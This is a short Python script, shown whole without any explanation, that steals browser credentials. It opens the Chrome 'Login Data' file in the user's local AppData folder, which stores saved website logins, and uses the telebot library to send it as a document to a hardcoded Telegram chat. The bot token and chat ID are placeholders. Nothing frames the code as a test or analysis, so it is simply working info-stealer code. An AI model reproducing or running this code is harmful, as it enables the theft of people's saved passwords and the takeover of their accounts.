import os
import telebot

bot = telebot.TeleBot("000000:PLACEHOLDER")
p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
with open(p, "rb") as f:
    bot.send_document(123456789, f)
